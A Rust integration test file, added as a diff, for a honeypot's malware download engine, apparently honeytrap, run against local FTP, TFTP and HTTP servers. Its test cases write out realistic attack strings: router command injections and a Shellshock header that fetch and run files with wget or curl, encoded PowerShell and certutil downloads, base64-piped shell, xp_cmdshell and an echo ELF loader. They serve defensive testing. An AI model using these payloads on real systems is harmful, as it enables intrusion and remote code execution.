@@ -1,0 +1,536 @@
+//! Scenario tests of the malware download engine (issue 4) with the real binary: the daemon
+//! (nfq) in the sensor namespace, the attacker and real FTP (pyftpdlib), TFTP (tftpd-hpa)
+//! and HTTP(S) (nginx) servers in the client namespace. Each attack string names a file on
+//! one of the servers; the test checks the file that lands in `downloads_dir`, by name and
+//! bytes, and the log lines.
+
+mod common;
+
+use common::*;
+use std::io::{Read, Write};
+use std::net::{Shutdown, SocketAddr, TcpStream};
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Stdio};
+use std::time::Duration;
+
+const T: Duration = Duration::from_secs(20);
+const PYTHON: &str = "/usr/bin/python3";
+/// The port attacked on the sensor (any port: every attack opens the same listener).
+const ATTACK_PORT: u16 = 8081;
+
+/// A server process in the client namespace, killed by PID on drop.
+struct Server(Child);
+
+impl Drop for Server {
+    fn drop(&mut self) {
+        if let Ok(None) = self.0.try_wait() {
+            let _ = self.0.kill();
+            let _ = self.0.wait();
+        }
+    }
+}
+
+fn spawn(pair: &Pair, dir: &Path, name: &str, program: &str, args: &[&str]) -> Server {
+    let out = std::fs::File::create(dir.join(format!("{name}.out"))).unwrap();
+    let child = pair
+        .cli
+        .command(program)
+        .args(args)
+        .stdin(Stdio::null())
+        .stdout(out.try_clone().unwrap())
+        .stderr(out)
+        .spawn()
+        .unwrap_or_else(|e| panic!("{program}: {e}"));
+    Server(child)
+}
+
+/// Pseudo-random test sample `n` of `len` bytes, starting with `MZ`.
+fn sample(n: u64, len: usize) -> Vec<u8> {
+    let mut x = 0x9e37_79b9_7f4a_7c15u64 ^ n;
+    let mut v: Vec<u8> = (0..len)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            x as u8
+        })
+        .collect();
+    v[..2].copy_from_slice(b"MZ");
+    v
+}
+
+fn md5(data: &[u8]) -> String {
+    format!("{:x}", md5::compute(data))
+}
+
+const PYFTPD: &str = r#"
+import sys, logging
+logging.basicConfig(level=logging.DEBUG, stream=sys.stderr)
+from pyftpdlib.authorizers import DummyAuthorizer
+from pyftpdlib.handlers import FTPHandler
+from pyftpdlib.servers import FTPServer
+root, host = sys.argv[1], sys.argv[2]
+auth = DummyAuthorizer()
+auth.add_user("foo", "bar", root, perm="elr")
+auth.add_anonymous(root)
+FTPHandler.authorizer = auth
+FTPHandler.permit_foreign_addresses = True
+FTPServer((host, 21), FTPHandler).serve_forever()
+"#;
+
+const NGINX: &str = r#"
+daemon off;
+master_process off;
+user root;
+worker_processes 1;
+pid DIR/nginx.pid;
+error_log DIR/nginx.err;
+events { worker_connections 64; }
+http {
+    access_log DIR/nginx.access;
+    client_body_temp_path DIR/tmp;
+    proxy_temp_path DIR/tmp;
+    fastcgi_temp_path DIR/tmp;
+    uwsgi_temp_path DIR/tmp;
+    scgi_temp_path DIR/tmp;
+    types { }
+    default_type application/octet-stream;
+    server {
+        listen 10.77.0.2:80;
+        listen [fd77::2]:80;
+        listen 10.77.0.2:443 ssl;
+        ssl_certificate DIR/cert.pem;
+        ssl_certificate_key DIR/key.pem;
+        root DIR/www;
+        location = /old/bins.sh { return 302 /bins.sh; }
+    }
+}
+"#;
+
+/// The daemon with every download plugin, and the three servers, each serving `files`.
+struct Lab {
+    pair: Pair,
+    dir: TempDir,
+    daemon: Daemon,
+    _servers: Vec<Server>,
+}
+
+impl Lab {
+    fn start(files: &[(&str, &[u8])], extra: &str) -> Lab {
+        let pair = Pair::new();
+        let dir = TempDir::new("downloads");
+        for d in ["attacks", "downloads", "www", "tmp", "tftp", "ftp"] {
+            std::fs::create_dir_all(dir.join(d)).unwrap();
+            std::fs::set_permissions(dir.join(d), std::fs::Permissions::from_mode(0o755)).unwrap();
+        }
+        for (name, data) in files {
+            for d in ["www", "tftp", "ftp"] {
+                std::fs::write(dir.join(d).join(name), data).unwrap();
+                std::fs::set_permissions(dir.join(d).join(name), std::fs::Permissions::from_mode(0o644)).unwrap();
+            }
+        }
+        let mut servers = Vec::new();
+        // FTP on 10.77.0.2:21.
+        std::fs::write(dir.join("ftpd.py"), PYFTPD).unwrap();
+        let ftp_root = dir.join("ftp");
+        servers.push(spawn(
+            &pair,
+            dir.path(),
+            "ftpd",
+            PYTHON,
+            &[dir.join("ftpd.py").to_str().unwrap(), ftp_root.to_str().unwrap(), CLI4],
+        ));
+        // TFTP on 10.77.0.2:69.
+        let tftp_root = dir.join("tftp");
+        servers.push(spawn(
+            &pair,
+            dir.path(),
+            "tftpd",
+            "in.tftpd",
+            &["--foreground", "--address", "10.77.0.2:69", "--user", "root", "--secure", tftp_root.to_str().unwrap()],
+        ));
+        // HTTP and HTTPS on 10.77.0.2 and fd77::2.
+        let d = dir.path().display().to_string();
+        let key = format!("{d}/key.pem");
+        let cert = format!("{d}/cert.pem");
+        let made = std::process::Command::new("openssl")
+            .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=test", "-days", "1"])
+            .args(["-keyout", &key, "-out", &cert])
+            .output()
+            .expect("openssl");
+        assert!(made.status.success(), "openssl: {}", String::from_utf8_lossy(&made.stderr));
+        std::fs::write(dir.join("nginx.conf"), NGINX.replace("DIR", &d)).unwrap();
+        servers.push(spawn(&pair, dir.path(), "nginx", "nginx", &["-c", dir.join("nginx.conf").to_str().unwrap()]));
+        let srv = pair.srv.0.clone();
+        let up = in_netns(&srv, || {
+            wait_until(Duration::from_secs(10), || {
+                ["10.77.0.2:21", "10.77.0.2:80", "10.77.0.2:443", "[fd77::2]:80"]
+                    .iter()
+                    .all(|a| TcpStream::connect_timeout(&a.parse().unwrap(), Duration::from_millis(200)).is_ok())
+            })
+        });
+        assert!(up, "servers did not start: {}", server_output(dir.path()));
+
+        // The sensor: nfq for TCP and UDP (replies to the download clients' own sockets are
+        // queued too, and must not disturb them).
+        for ipt in ["iptables", "ip6tables"] {
+            for rule in [&["-p", "tcp", "--syn"][..], &["-p", "udp"][..]] {
+                let mut args = vec!["netns", "exec", &pair.srv.0, ipt, "-A", "INPUT", "-i", "ht-s"];
+                args.extend_from_slice(rule);
+                args.extend_from_slice(&["-j", "NFQUEUE", "--queue-num", "0"]);
+                run_ok("ip", &args);
+            }
+        }
+        let conf = write_config(
+            dir.path(),
+            &format!(
+                "monitor = \"nfq\"\ndownload_timeout = \"15\"\n{extra}\n\
+                 plugin-b64Decode = \"\"\nplugin-deUnicode = \"\"\nplugin-vncDownload = \"\"\n\
+                 plugin-ftpDownload = \"\"\nplugin-tftpDownload = \"\"\nplugin-httpDownload = \"\"\n\
+                 plugin-SaveFile = {{ attacks_dir = \"{d}/attacks\" downloads_dir = \"{d}/downloads\" }}\n"
+            ),
+        );
+        let mut cmd = pair.srv.command(BIN);
+        cmd.args(["-D", "-C", conf.to_str().unwrap(), "-t", "5"]);
+        let mut daemon = Daemon::spawn(cmd);
+        if !wait_for_text(&dir.join("honeytrap.log"), "---- Trapping attacks", T) {
+            let _ = daemon.child.kill();
+            let (out, err) = daemon.output();
+            panic!("no ready line; log:\n{}\n{out}\n{err}", read(&dir.join("honeytrap.log")));
+        }
+        Lab { pair, dir, daemon, _servers: servers }
+    }
+
+    fn log(&self) -> String {
+        read(&self.dir.join("honeytrap.log"))
+    }
+
+    /// Sends `data` to the sensor from the attacker namespace and closes.
+    fn attack(&self, data: Vec<u8>) {
+        let to = SocketAddr::new(SRV4.parse().unwrap(), ATTACK_PORT);
+        in_netns(&self.pair.cli.0, move || {
+            let mut s = TcpStream::connect_timeout(&to, Duration::from_secs(3)).expect("connect");
+            s.write_all(&data).unwrap();
+            s.shutdown(Shutdown::Write).unwrap();
+            let mut sink = Vec::new();
+            s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+            let _ = s.read_to_end(&mut sink);
+        });
+    }
+
+    fn downloads(&self) -> Vec<(String, Vec<u8>)> {
+        let mut v: Vec<(String, Vec<u8>)> = std::fs::read_dir(self.dir.join("downloads"))
+            .unwrap()
+            .filter_map(|e| {
+                let e = e.ok()?;
+                let name = e.file_name().to_string_lossy().into_owned();
+                (!name.starts_with('.')).then(|| (name, std::fs::read(e.path()).unwrap_or_default()))
+            })
+            .collect();
+        v.sort();
+        v
+    }
+
+    /// Waits until `<md5>-<name>` with exactly `data` is in downloads_dir.
+    fn expect_download(&self, name: &str, data: &[u8]) {
+        let want = format!("{}-{}", md5(data), name);
+        let ok = wait_until(T, || self.downloads().iter().any(|(n, d)| *n == want && d == data));
+        assert!(
+            ok,
+            "no {want} in {:?}\nlog:\n{}\nservers:\n{}",
+            self.downloads().iter().map(|d| &d.0).collect::<Vec<_>>(),
+            self.log(),
+            server_output(self.dir.path())
+        );
+    }
+
+    fn path(&self, p: &str) -> PathBuf {
+        self.dir.join(p)
+    }
+}
+
+impl Drop for Lab {
+    fn drop(&mut self) {
+        self.daemon.signal("TERM");
+        let _ = self.daemon.wait(T);
+    }
+}
+
+fn server_output(dir: &Path) -> String {
+    ["ftpd", "tftpd", "nginx"]
+        .iter()
+        .map(|n| format!("{n}: {}", std::fs::read_to_string(dir.join(format!("{n}.out"))).unwrap_or_default()))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+fn needs(name: &str) -> bool {
+    root_or_skip(name, &["ip", "iptables", "ip6tables", "in.tftpd", "nginx", "openssl", PYTHON])
+}
+
+/// UTF-16LE of `s` (MS-SQL and PowerShell `-enc` bodies).
+fn utf16(s: &str) -> Vec<u8> {
+    s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect()
+}
+
+fn b64(data: &[u8]) -> String {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for c in data.chunks(3) {
+        let n =
+            (u32::from(c[0]) << 16) | (u32::from(*c.get(1).unwrap_or(&0)) << 8) | u32::from(*c.get(2).unwrap_or(&0));
+        for i in 0..4 {
+            if i <= c.len() {
+                out.push(char::from(A[(n >> (18 - 6 * i)) as usize & 63]));
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+#[test]
+fn every_family_lands_in_downloads_dir() {
+    if !needs("every_family_lands_in_downloads_dir") {
+        return;
+    }
+    let files: Vec<(String, Vec<u8>)> =
+        (1..=14).map(|i| (format!("s{i}.bin"), sample(i, 700 + 997 * i as usize))).collect();
+    let refs: Vec<(&str, &[u8])> = files.iter().map(|(n, d)| (n.as_str(), d.as_slice())).collect();
+    let lab = Lab::start(&refs, "");
+    let f = |i: usize| (&files[i - 1].0, &files[i - 1].1);
+
+    let cases: Vec<(Vec<u8>, &str, usize)> = vec![
+        // Windows cmd FTP script with user and password on one line.
+        (
+            format!("cmd /c echo open {CLI4} 21 > o&echo user foo bar >> o &echo binary >> o&echo get {} >> o &echo bye >> o &ftp -n -v -s:o &del o &{}\r\n", f(1).0, f(1).0).into_bytes(),
+            "s1.bin",
+            1,
+        ),
+        // Windows tftp.
+        (format!("tftp -i {CLI4} GET {}\r\n", f(2).0).into_bytes(), "s2.bin", 2),
+        // Unix tftp in a router injection.
+        (
+            format!("GET /shell?cd+/tmp;tftp+-g+-r+{}+{CLI4};chmod+777+{} HTTP/1.1\r\nHost: x\r\n\r\n", f(3).0, f(3).0).into_bytes(),
+            "s3.bin",
+            3,
+        ),
+        // wget in an URL-encoded router request.
+        (
+            format!("GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{CLI4}/{}+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n", f(4).0).into_bytes(),
+            "netgear",
+            4,
+        ),
+        // curl in a Shellshock header.
+        (
+            format!("GET /cgi-bin/test.cgi HTTP/1.1\r\nHost: x\r\nUser-Agent: () {{ :; }}; /bin/bash -c \"curl -s -o /tmp/{} http://{CLI4}/{}; sh /tmp/{}\"\r\n\r\n", f(5).0, f(5).0, f(5).0).into_bytes(),
+            "s5.bin",
+            5,
+        ),
+        // PowerShell -enc (UTF-16LE base64).
+        (
+            format!(
+                "powershell.exe -nop -w hidden -enc {}\r\n",
+                b64(&utf16(&format!("(New-Object Net.WebClient).DownloadFile('http://{CLI4}/{}','C:\\Users\\Public\\{}')", f(6).0, f(6).0)))
+            )
+            .into_bytes(),
+            "s6.bin",
+            6,
+        ),
+        // certutil.
+        (format!("certutil -urlcache -split -f http://{CLI4}/{} C:\\Windows\\Temp\\{}\r\n", f(7).0, f(7).0).into_bytes(), "s7.bin", 7),
+        // base64 shell body.
+        (format!("echo {}|base64 -d|sh\n", b64(format!("cd /tmp; wget http://{CLI4}/{}; chmod +x {}", f(8).0, f(8).0).as_bytes())).into_bytes(), "s8.bin", 8),
+        // busybox ftpget with user and password.
+        (format!("cd /tmp; busybox ftpget -u foo -p bar {CLI4} {} {}; chmod 777 {}\n", f(9).0, f(9).0, f(9).0).into_bytes(), "s9.bin", 9),
+        // Bare ftp:// URL.
+        (format!("fetch ftp://{CLI4}/{}\n", f(10).0).into_bytes(), "s10.bin", 10),
+        // HTTPS, IPv6 and a redirect.
+        (format!("wget --no-check-certificate https://{CLI4}/{}\n", f(11).0).into_bytes(), "s11.bin", 11),
+        (format!("wget http://[fd77::2]/{} -O /tmp/{}\n", f(12).0, f(12).0).into_bytes(), "s12.bin", 12),
+        // MS-SQL in UTF-16LE (deUnicode).
+        (utf16(&format!("EXEC master..xp_cmdshell 'tftp -i {CLI4} GET {}'", f(13).0)), "s13.bin", 13),
+        // Authorization: Negotiate with a base64 body (b64Decode).
+        (
+            format!("GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Negotiate {}\r\n\r\n", b64(format!("wget http://{CLI4}/{}", f(14).0).as_bytes())).into_bytes(),
+            "s14.bin",
+            14,
+        ),
+    ];
+    for (attack, _, _) in &cases {
+        lab.attack(attack.clone());
+    }
+    for (_, name, i) in &cases {
+        lab.expect_download(name, &files[i - 1].1);
+    }
+    let log = lab.log();
+    assert!(log.contains(&format!("FTP download - Requesting '{}' from {CLI4}:21.", f(1).0)), "{log}");
+    assert!(log.contains(&format!("TFTP download - Requesting '{}' from {CLI4}.", f(2).0)), "{log}");
+    assert!(log.contains("successfully downloaded and attached to attack record."), "{log}");
+}
+
+#[test]
+fn inline_vnc_fallback_and_duplicates() {
+    if !needs("inline_vnc_fallback_and_duplicates") {
+        return;
+    }
+    let a = sample(21, 5000);
+    let b = sample(22, 3000);
+    let lab = Lab::start(&[("a.exe", &a), ("b.sh", &b)], "");
+
+    // An IoT echo loader writing an ELF in chunks.
+    let elf: Vec<u8> = b"\x7fELF\x01\x01\x01\x00".iter().copied().chain((0u8..=255).cycle().take(600)).collect();
+    let mut loader = String::from("cd /tmp; rm -f .d; ");
+    for chunk in elf.chunks(64) {
+        let esc: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
+        loader.push_str(&format!("echo -ne '{esc}' >> .d; "));
+    }
+    loader.push_str("chmod +x .d; ./.d\n");
+    lab.attack(loader.into_bytes());
+    lab.expect_download(".d", &elf);
+
+    // A VNC session with the URL typed as key-down/key-up pairs.
+    let typed = format!("wget http://{CLI4}/b.sh");
+    let mut vnc = b"RFB 003.008\n".to_vec();
+    for c in typed.bytes() {
+        vnc.extend_from_slice(&[c, c]);
+    }
+    lab.attack(vnc);
+    lab.expect_download("b.sh", &b);
+
+    // The FTP server named does not answer: the attacker's own address is tried instead.
+    lab.attack(b"echo open 10.77.0.99 21>>x&echo user foo bar>>x&echo get a.exe>>x&ftp -n -s:x\r\n".to_vec());
+    lab.expect_download("a.exe", &a);
+    assert!(lab.log().contains("trying the attacking address (10.77.0.2) instead."), "{}", lab.log());
+
+    // The same sample again, under another name: stored once.
+    lab.attack(format!("wget http://{CLI4}/a.exe -O other.exe\n").into_bytes());
+    let log = lab.path("honeytrap.log");
+    assert!(wait_for_text(&log, "is known already", T), "{}", lab.log());
+    assert_eq!(lab.downloads().iter().filter(|(_, d)| *d == a).count(), 1, "{:?}", lab.downloads());
+}
+
+#[test]
+fn loopback_and_caps_are_refused() {
+    if !needs("loopback_and_caps_are_refused") {
+        return;
+    }
+    let big = sample(31, 300_000);
+    let lab = Lab::start(
+        &[("big.bin", &big), ("c.bin", b"MZ small")],
+        "download_max_size = \"100000\"\ndownloads_per_attack = \"1\"",
+    );
+    // Loopback is never fetched from; too large is abandoned; only one download per attack.
+    lab.attack(b"wget http://127.0.0.1/c.bin\n".to_vec());
+    lab.attack(format!("wget http://{CLI4}/big.bin\n").into_bytes());
+    lab.attack(format!("wget http://{CLI4}/c.bin; wget http://{CLI4}/big.bin\n").into_bytes());
+    lab.expect_download("c.bin", b"MZ small");
+    let log = lab.path("honeytrap.log");
+    assert!(wait_for_text(&log, "127.0.0.1 is a loopback address", T), "{}", lab.log());
+    assert!(wait_for_text(&log, "file larger than 100000 bytes", T), "{}", lab.log());
+    assert!(wait_for_text(&log, "only the first 1 are tried", T), "{}", lab.log());
+    assert!(!lab.downloads().iter().any(|(_, d)| *d == big));
+}
+
+/// Reads every datagram waiting on `sock` (the daemon's syslog target) within `wait`.
+fn syslog_messages(sock: &std::os::unix::net::UnixDatagram, wait: Duration) -> Vec<String> {
+    sock.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
+    let end = std::time::Instant::now() + wait;
+    let mut out = Vec::new();
+    let mut buf = vec![0u8; 65536];
+    while std::time::Instant::now() < end {
+        if let Ok(n) = sock.recv(&mut buf) {
+            out.push(String::from_utf8_lossy(&buf[..n]).into_owned());
+        }
+    }
+    out
+}
+
+#[test]
+fn outputs_describe_the_attack_after_its_downloads() {
+    if !needs("outputs_describe_the_attack_after_its_downloads") {
+        return;
+    }
+    let a = sample(41, 4000);
+    let scratch = TempDir::new("outputs");
+    let sock_path = scratch.join("syslog.sock");
+    let sock = std::os::unix::net::UnixDatagram::bind(&sock_path).unwrap();
+    let d = scratch.path().display().to_string();
+    let extra = format!(
+        "sensor_name = \"lab-1\"\n\
+         plugin-logAttacker = {{ logfile = \"{d}/attacker.log\" }}\n\
+         plugin-logJSON = {{ logfile = \"{d}/attackers.json\" }}\n\
+         plugin-logEvents = {{ logfile = \"{d}/events.json\" }}\n\
+         plugin-syslog = {{ target = \"unix:{}\" what = \"both\" }}",
+        sock_path.display()
+    );
+    let lab = Lab::start(&[("a.exe", &a)], &extra);
+    let attack = format!("GET /x?cmd=wget+http://{CLI4}/a.exe HTTP/1.0\r\n\r\n");
+    lab.attack(attack.clone().into_bytes());
+    lab.expect_download("a.exe", &a);
+    let events = scratch.join("events.json");
+    assert!(wait_for_text(&events, "honeytrap.session.closed", T), "{}", read(&events));
+
+    // logAttacker: one line, the exact shape of SPEC 8.17.
+    let attacker = read(&scratch.join("attacker.log"));
+    let lines: Vec<&str> = attacker.lines().collect();
+    assert_eq!(lines.len(), 1, "{attacker}");
+    let md5_attack = md5(attack.as_bytes());
+    assert!(lines[0].starts_with('[') && lines[0].contains(" GMT] tcp 10.77.0.2:"), "{attacker}");
+    assert!(lines[0].contains(&format!(" -> 10.77.0.1:{ATTACK_PORT} {md5_attack} ")), "{attacker}");
+    assert!(lines[0].ends_with(&format!("({} bytes)", attack.len())), "{attacker}");
+
+    // logJSON: written after the download, so it counts it.
+    let json = read(&scratch.join("attackers.json"));
+    assert_eq!(json.lines().count(), 1, "{json}");
+    for want in [
+        "\"download_count\": 1",
+        "\"download_tries\": 1",
+        "\"type_0\": \"http\"",
+        "\"filename_0\": \"a.exe\"",
+        &format!("\"uri_0\": \"http:\\/\\/{CLI4}\\/a.exe\""),
+        &format!("\"md5_hash\": \"{}\"", md5(&a)),
+        &format!("\"local_port\": {ATTACK_PORT}"),
+    ] {
+        assert!(json.contains(want), "{want} not in {json}");
+    }
+
+    // The event stream: the five events of the connection, one session, in order.
+    let ev = read(&events);
+    let ids: Vec<&str> = ev.lines().filter_map(|l| l.split("\"eventid\":\"").nth(1)?.split('"').next()).collect();
+    assert_eq!(
+        ids,
+        [
+            "honeytrap.session.connect",
+            "honeytrap.session.input",
+            "honeytrap.session.file_download.started",
+            "honeytrap.session.file_download",
+            "honeytrap.session.closed"
+        ],
+        "{ev}"
+    );
+    let session = |l: &str| l.split("\"session\":\"").nth(1).and_then(|s| s.split('"').next()).map(str::to_string);
+    let first = session(ev.lines().next().unwrap()).expect("session id");
+    assert!(ev.lines().all(|l| session(l).as_deref() == Some(first.as_str())), "{ev}");
+    assert!(ev.lines().all(|l| l.contains("\"sensor\":\"lab-1\"")), "{ev}");
+    assert!(ev.contains(&format!("\"outfile\":\"{}-a.exe\"", md5(&a))) && ev.contains("\"duplicate\":false"), "{ev}");
+
+    // syslog (what = both): the events and the daemon log, RFC 5424.
+    let msgs = syslog_messages(&sock, Duration::from_secs(1));
+    assert!(msgs.iter().any(|m| m.starts_with("<") && m.contains(" honeytrap.session.closed ")), "{msgs:?}");
+    assert!(msgs.iter().any(|m| m.contains("successfully downloaded and attached")), "{msgs:?}");
+
+    // Rotation: SIGHUP reopens the files by name; the same sample again is a duplicate.
+    std::fs::rename(scratch.join("attacker.log"), scratch.join("attacker.log.1")).unwrap();
+    std::fs::rename(&events, scratch.join("events.json.1")).unwrap();
+    lab.daemon.signal("HUP");
+    assert!(wait_for_text(&lab.path("honeytrap.log"), "honeytrap reconfigured", T), "{}", lab.log());
+    lab.attack(format!("wget http://{CLI4}/a.exe\n").into_bytes());
+    assert!(wait_for_text(&events, "honeytrap.session.closed", T), "{}", lab.log());
+    assert_eq!(read(&scratch.join("attacker.log")).lines().count(), 1);
+    assert_eq!(read(&scratch.join("attacker.log.1")).lines().count(), 1);
+    assert!(read(&events).contains("\"duplicate\":true"), "{}", read(&events));
+    assert_eq!(read(&scratch.join("attackers.json")).lines().count(), 2);
+}
